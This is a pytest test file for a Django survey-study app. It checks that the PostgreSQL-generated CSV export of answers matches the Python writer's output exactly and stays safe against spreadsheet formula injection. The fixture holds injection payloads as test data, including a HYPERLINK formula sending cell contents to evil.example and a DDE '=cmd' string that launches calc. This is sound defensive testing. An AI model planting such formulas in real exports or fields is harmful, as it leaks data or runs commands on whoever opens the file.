"""The CSV export written by PostgreSQL (evaluation/exports/csv_copy.py) is byte for byte the CSV
the Python path writes (answer_rows → csv_chunks), on a study with every kind of answer, text a
spreadsheet would run as a formula, text that needs quoting, unicode and empty answers."""

from __future__ import annotations

import csv
import io
import logging
import random

import psycopg
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection

from annotation import participant_services
from annotation.answer_store import CLEAR, Target, answers_upsert, flow_instrument_id
from annotation.models import (
    AttentionCheck,
    AttentionCheckResponse,
    LayItem,
    Participant,
    SimplificationText,
    Source,
    System,
)
from evaluation.exports import csv_copy
from evaluation.exports.answers import AnswerExport
from evaluation.exports.cells import csv_cell
from evaluation.exports.csv import csv_chunks
from evaluation.exports.rows import answer_columns, answer_rows
from surveys.lay import services as lay_answers
from surveys.radiologist import services as expert_answers
from tests.evaluation.analysis.test_study_frames import build_answered_study

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
AWKWARD = 'two lines,\n"quoted" and\r\nCRLF\tand a tab: é 中文 🚀'


@pytest.fixture
def study(db):
    study = build_answered_study(slug="copied", n_sources=3, n_lay=2, external_ids=True)
    sources = list(Source.objects.filter(study=study).order_by("position"))
    Source.objects.filter(pk=sources[0].pk).update(key="=2+5")
    Source.objects.filter(pk=sources[1].pk).update(key='key, "quoted"')
    System.objects.filter(study=study, key="plain_sc").update(key="-sys")
    lay = list(Participant.objects.filter(study=study, role=Participant.Role.LAYPERSON).order_by("pk"))
    Participant.objects.filter(pk=lay[0].pk).update(pseudonym="", external_id="=cmd|' /C calc'!A0")
    Participant.objects.filter(pk=lay[1].pk).update(pseudonym="@L2", external_id="PROLIFIC é")

    # Panel 3 with free text of every awkward kind.
    items = list(LayItem.objects.filter(participant__study=study).order_by("participant_id", "position"))
    justifications = [
        (HYPERLINK, AWKWARD),
        ("\tstarts with a tab", ""),
        ("", "\rstarts with CR"),
        ("+1", "-1"),
    ]
    for item, (most, least) in zip(items, justifications, strict=False):
        lay_answers.lay_preference_save(item=item, most_justification="x", least_justification="x")
        # Written to the store directly: the service strips the leading tab and CR this test needs.
        answers_upsert(
            participant=item.participant,
            instrument_id=flow_instrument_id(study=study, flow="lay"),
            target=Target(source_id=item.source_id, phase="preference"),
            values={
                "most_justification": (most, None) if most else CLEAR,
                "least_justification": (least, None) if least else CLEAR,
            },
        )

    # A layperson who answered only some questions, on an item with no assigned system.
    person = participant_services.participant_create(
        study=study, role=Participant.Role.LAYPERSON, external_id="X1"
    )
    text = SimplificationText.objects.filter(source=sources[2]).order_by("pk").first()
    item = lay_answers.lay_item_create(
        participant=person, source=sources[2], position=0, shown_text=text, assigned_system=None
    )
    lay_answers.lay_answer_save(item=item, phase="original", answers={"understanding": "Completely"})
    lay_answers.lay_answer_save(
        item=item, phase="assisted", answers={"helpfulness": "It further confused me"}
    )

    # A radiologist with a partial rating, a judgement without severity and formula-like comments.
    radiologist = participant_services.participant_create(study=study, role=Participant.Role.RADIOLOGIST)
    expert_answers.expert_item_create(participant=radiologist, source=sources[1], position=0)
    expert_answers.expert_rating_save(
        participant=radiologist, shown_text=text, scores={"correctness": 3}, comment="@SUM(1,2)"
    )
    expert_answers.expert_source_judgement_save(
        participant=radiologist, source=sources[1], simplicity=2, comment=AWKWARD
    )

    # Background answers: formula-like and awkward text, an unanswered question, keys out of order.
    Participant.objects.filter(pk=lay[0].pk).update(
        background={"zip": "=1+1", "age": "18-29", "note": AWKWARD, "skipped": ""}
    )
    Participant.objects.filter(pk=lay[1].pk).update(background={"age": "30-49", "Zeta": "é"})

    check = AttentionCheck.objects.create(
        study=study, position=1, prompt="Pick blue.", options=["Blue", "Red"], expected_answer="Blue"
    )
    AttentionCheckResponse.objects.create(participant=lay[0], check_item=check, answer="Blue", passed=True)
    AttentionCheckResponse.objects.create(participant=lay[1], check_item=check, answer="=Red", passed=False)
    AttentionCheckResponse.objects.create(participant=person, check_item=check, answer="", passed=False)
    return study


def _python_csv(study, include_external_ids: bool) -> bytes:
    rows = answer_rows(study=study, include_external_ids=include_external_ids)
    return b"".join(csv_chunks(rows, answer_columns(include_external_ids=include_external_ids)))


def test_the_database_writes_the_csv_on_postgresql():
    assert connection.vendor == "postgresql"
    assert csv_copy.available()


@pytest.mark.parametrize("include_external_ids", [False, True])
def test_copy_writes_the_same_bytes_as_python(study, include_external_ids):
    expected = _python_csv(study, include_external_ids)
    counted = []
    written = b"".join(
        csv_copy.csv_copy_chunks(
            study=study, include_external_ids=include_external_ids, on_rows=counted.append
        )
    )
    assert written == expected
    rows = list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))
    assert sum(counted) == len(rows) - 1
    # The study really holds what the test is about.
    values = {row[answer_columns(include_external_ids=include_external_ids).index("value")] for row in rows}
    assert {
        "'" + HYPERLINK,
        AWKWARD,
        "'\tstarts with a tab",
        "'\rstarts with CR",
        "'@SUM(1,2)",
        "'=Red",
    } <= values
    questions = {
        row[answer_columns(include_external_ids=include_external_ids).index("question")] for row in rows[1:]
    }
    assert questions >= {
        "understanding",
        "helpfulness",
        "most_preferred",
        "least_preferred",
        "most_justification",
        "least_justification",
        "correctness",
        "comment",
        "severity",
        "original_simplicity",
        "attention_check_1",
    }


def test_the_command_and_the_download_use_the_database_and_count_rows(study, tmp_path, client):
    expected = _python_csv(study, False)
    out = tmp_path / "answers.csv"
    stderr = io.StringIO()
    call_command("export", "--study", study.slug, "--format", "csv", "--out", str(out), stderr=stderr)
    assert out.read_bytes() == expected
    n = len(list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))) - 1
    assert f"Wrote {n} answers" in stderr.getvalue()

    researcher = get_user_model().objects.create_user("copy-researcher", password="pw")
    study.researchers.add(researcher)
    client.force_login(researcher)
    response = client.get(f"/dashboard/{study.slug}/export.csv")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == expected


def test_an_abandoned_download_leaves_the_connection_usable(study, monkeypatch):
    monkeypatch.setattr(csv_copy, "ROWS_PER_CHUNK", 3)
    participants = Participant.objects.filter(study=study).count()
    chunks = iter(AnswerExport(study=study, file_format="csv"))
    next(chunks)  # header
    next(chunks)  # first rows: the COPY is under way
    chunks.close()
    assert Participant.objects.filter(study=study).count() == participants


@pytest.mark.django_db(transaction=True)
def test_an_abandoned_download_outside_a_transaction_is_cancelled_and_the_connection_idle(monkeypatch):
    from psycopg import pq

    study = build_answered_study(slug="abandoned", n_sources=2, n_lay=2)
    monkeypatch.setattr(csv_copy, "ROWS_PER_CHUNK", 1)
    chunks = iter(AnswerExport(study=study, file_format="csv"))
    next(chunks)
    next(chunks)
    assert connection.connection.pgconn.transaction_status == pq.TransactionStatus.ACTIVE
    chunks.close()
    assert connection.connection.pgconn.transaction_status == pq.TransactionStatus.IDLE
    assert Participant.objects.filter(study=study).count() == 3


def test_the_python_path_where_the_database_cannot(study, tmp_path, monkeypatch):
    expected = _python_csv(study, False)
    monkeypatch.setattr(csv_copy, "available", lambda: False)
    export = AnswerExport(study=study, file_format="csv")
    assert not export.by_database
    buffer = io.BytesIO()
    export.write(buffer)
    assert buffer.getvalue() == expected
    assert export.rows == len(list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))) - 1


def test_a_study_without_answers_is_the_header_alone(db):
    study = build_answered_study(slug="quiet", n_sources=2, n_lay=0, n_radiologists=0)
    written = b"".join(csv_copy.csv_copy_chunks(study=study))
    assert written == _python_csv(study, False) == b",".join(c.encode() for c in answer_columns()) + b"\r\n"


_AWKWARD_CHARACTERS = ",\"\r\n\t=+-@' aé中🚀"


@pytest.mark.parametrize("seed", range(5))
def test_cells_formatted_in_python_are_those_csv_writer_writes(seed):
    """`csv_text` against the csv module, on rows of random awkward text, numbers and None."""
    rng = random.Random(seed)
    for _ in range(200):
        row = [
            rng.choice(
                [None, rng.randint(-5, 10**6), "".join(rng.choices(_AWKWARD_CHARACTERS, k=rng.randint(0, 6)))]
            )
            for _ in range(rng.randint(2, 5))
        ]
        expected = io.StringIO(newline="")
        csv.writer(expected, lineterminator="\r\n").writerow([csv_cell(value) for value in row])
        assert ",".join(csv_copy.csv_text(value) for value in row) + "\r\n" == expected.getvalue()


@pytest.mark.parametrize("seed", range(5))
def test_rows_are_counted_by_their_line_ends_outside_quoted_fields(seed):
    rng = random.Random(seed)
    rows = [
        ["".join(rng.choices(_AWKWARD_CHARACTERS, k=rng.randint(0, 8))) for _ in range(3)] for _ in range(50)
    ]
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(rows)
    data = text.getvalue().encode()
    assert (
        csv_copy.csv_rows(data)
        == len(rows)
        == len(list(csv.reader(io.StringIO(text.getvalue(), newline=""))))
    )


def test_the_binary_header_is_read_with_its_extension():
    header = b"PGCOPY\n\xff\r\n\x00" + (0).to_bytes(4, "big") + (3).to_bytes(4, "big") + b"ext"
    row = (1).to_bytes(2, "big") + (2).to_bytes(4, "big") + b"ab"
    assert csv_copy._after_header(header + row) == row
    with pytest.raises(psycopg.errors.InterfaceError, match="binary file header"):
        csv_copy._after_header(b"not a copy")


@pytest.mark.django_db(transaction=True)
def test_a_download_stopped_at_any_chunk_closes_cleanly(monkeypatch, caplog, client):
    """A client may stop reading anywhere, including just after the last chunk of a COPY (its data
    all read, the COPY over): closing must neither raise nor log ("no COPY in progress"), and the
    connection stays idle and usable."""
    from psycopg import pq

    study = build_answered_study(slug="stopped", n_sources=2, n_lay=2)
    researcher = get_user_model().objects.create_user("stopper", password="pw")
    study.researchers.add(researcher)
    client.force_login(researcher)
    monkeypatch.setattr(csv_copy, "ROWS_PER_CHUNK", 4)
    total = len(list(AnswerExport(study=study, file_format="csv")))
    assert total > 3
    caplog.set_level(logging.WARNING)
    for stop in range(1, total + 1):
        response = client.get(f"/dashboard/{study.slug}/export.csv")
        chunks = iter(response.streaming_content)
        for _ in range(stop):
            next(chunks)
        response.close()  # what the server does when the client goes away
        assert connection.connection.pgconn.transaction_status == pq.TransactionStatus.IDLE, stop
        assert Participant.objects.filter(study=study).count() == 3, stop
    problems = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert not problems, [r.getMessage() for r in problems]
